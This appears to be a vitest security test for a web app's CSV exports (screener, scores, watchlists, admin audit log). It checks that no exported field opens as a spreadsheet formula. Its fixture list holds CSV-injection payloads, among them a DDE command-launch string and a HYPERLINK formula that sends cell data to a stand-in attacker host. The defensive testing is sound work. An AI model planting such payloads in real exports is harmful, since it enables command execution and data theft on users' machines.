/** What is exported as a table opens as text: no field of any of them becomes a formula in a spreadsheet. */

import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { audit } from '@faultline/db/repositories/audit'
import { beforeAll, describe, expect, it } from 'vitest'
import type { Accuracy } from '../../features/accuracy/prepare/accuracy.ts'
import { csvOf, scoreTable } from '../../features/accuracy/prepare/csv.ts'
import { csvField } from '../../features/export/prepare/csv.ts'
import { screenerCsv } from '../../features/screener/prepare/screener-csv.ts'
import type { ScreenerRow } from '../../features/screener/server/schema.ts'
import { listCsv, readListFile } from '../../features/watchlists/prepare/list-file.ts'
import { webUnderTest } from '../testing/web-under-test.ts'

const FORMULAS = [
  '=1+1',
  '+1',
  '-1+2',
  '@SUM(A1)',
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\t=1',
  '\r=1',
  '\n=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  '"=1"',
  'a","=1',
  'a\r\n=1',
  "'=1",
]

/** RFC 4180, as strict as a spreadsheet: fields of all lines. */
function fieldsOf(csv: string): string[] {
  const fields: string[] = []
  for (let at = 0; at < csv.length; ) {
    if (csv[at] === '"') {
      let field = ''
      for (at++; ; at++) {
        if (at >= csv.length) throw new Error('a quote is not closed')
        if (csv[at] !== '"') field += csv[at]
        else if (csv[at + 1] === '"') field += csv[at++]
        else break
      }
      fields.push(field)
      at++
      if (at < csv.length && csv[at] !== ',' && csv[at] !== '\r')
        throw new Error(`something stands behind a quote: ${csv.slice(at, at + 20)}`)
    } else {
      const end = /[,\r\n]|$/.exec(csv.slice(at))?.index ?? 0
      fields.push(csv.slice(at, at + end))
      at += end
    }
    at += csv[at] === '\r' ? 2 : 1
  }
  return fields
}
/** numbers are no formulas, minus or not */
const runs = (field: string) => /^[\s\ufeff]*[=+\-@]/.test(field) && Number.isNaN(Number(field))

it('knows one when it sees it', () => {
  expect(FORMULAS.filter(runs).length).toBeGreaterThan(10)
  expect(fieldsOf('a,"b ""c"", d",-1\r\n=1,e\r\n')).toEqual(['a', 'b "c", d', '-1', '=1', 'e'])
  expect(fieldsOf('a,=1\r\n').filter(runs)).toEqual(['=1'])
})

it.each(FORMULAS)('a field %j', (text) => expect(fieldsOf(`${csvField(text)}\r\n`).filter(runs)).toEqual([]))

it('the screener', () => {
  const rows = FORMULAS.map((text) => ({ key: text, symbol: text, venue: text, simulated: false, reading: null }) as unknown as ScreenerRow)
  const csv = screenerCsv(rows, ['market', 'price', 'risk'])
  expect(fieldsOf(csv).filter(runs)).toEqual([])
  expect(fieldsOf(csv).length).toBeGreaterThan(FORMULAS.length * 4)
})

it('the scores', () => {
  const market = (key: string) => ({
    key,
    model: key,
    from: 0,
    to: 1,
    outcomes: 1,
    events: 1,
    days: 1,
    moreDays: 0,
    uncovered: 0,
    replayed: 0,
    gains: {},
    daily: [],
  })
  const group = (simulated: boolean) => ({ simulated, markets: FORMULAS.map(market), reliability: [] })
  const csv = csvOf(scoreTable('markets', [{ horizonMs: 900_000, real: group(false), simulated: group(true) } as unknown as Accuracy]))
  expect(fieldsOf(csv).filter(runs)).toEqual([])
  expect(csv.split('\r\n').length).toBeGreaterThan(FORMULAS.length)
})

it('a watchlist, which comes back as it was', () => {
  const rows = FORMULAS.map((text, i) => ({ instrument: `simulated:M${i}`, note: text }))
  const csv = listCsv({ name: 'x', content: { rows, notes: '' } } as unknown as Parameters<typeof listCsv>[0])
  expect(fieldsOf(csv).filter(runs)).toEqual([])
  const back = readListFile(
    csv,
    rows.map(({ instrument }) => ({ key: instrument, symbol: instrument })),
  )
  expect(back.problems).toEqual([])
  expect(back.rows.map(({ note }) => note)).toEqual(FORMULAS)
})

describe('the audit log', () => {
  const web = webUnderTest()
  let cookie: string
  beforeAll(async () => {
    cookie = await web.cookieOf(await web.addPerson({ role: 'admin' }))
    for (const text of FORMULAS)
      await audit(web.services.db, { kind: 'authenticator' }, { actor: text, action: 'test.csv', target: text, details: { [text]: text } })
  })
  it('with whatever people were called', async () => {
    const answer = await web.runtime.auditCsv(new Request(`${web.origin}/admin/audit/log.csv?action=test.csv`, { headers: { cookie } }))
    const fields = fieldsOf(await answer.text())
    expect(fields.length).toBe((FORMULAS.length + 1) * 8)
    expect(fields.filter(runs)).toEqual([])
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
  })
})

it('is written by the one function that escapes, wherever a table is made', () => {
  const root = fileURLToPath(new URL('../../', import.meta.url))
  const files = execFileSync('git', ['ls-files', '--cached', '--others', '--exclude-standard', '.'], { cwd: root }).toString().split('\n')
  const makers = files
    .filter((file) => /\.tsx?$/.test(file) && !/\.test\.tsx?$|^server\/security\/|^messages/.test(file))
    .flatMap((file) => {
      const text = readFileSync(root + file, 'utf8')
      return /\.join\(('|"|`),\1\)[^\n]*\\r?\\n|text\/csv;|Csv\(.*\): (string|Generator<string>)/.test(text) ? [{ file, text }] : []
    })
  expect(makers.map(({ file }) => file)).toEqual(
    expect.arrayContaining(['features/screener/prepare/screener-csv.ts', 'features/map/prepare/map-csv.ts']),
  )
  const without = makers.filter(({ text }) => !/csvLine|csvOf|[a-z]Csv\(|ScoreFiles/.test(text)).map(({ file }) => file)
  expect(without).toEqual([])
})
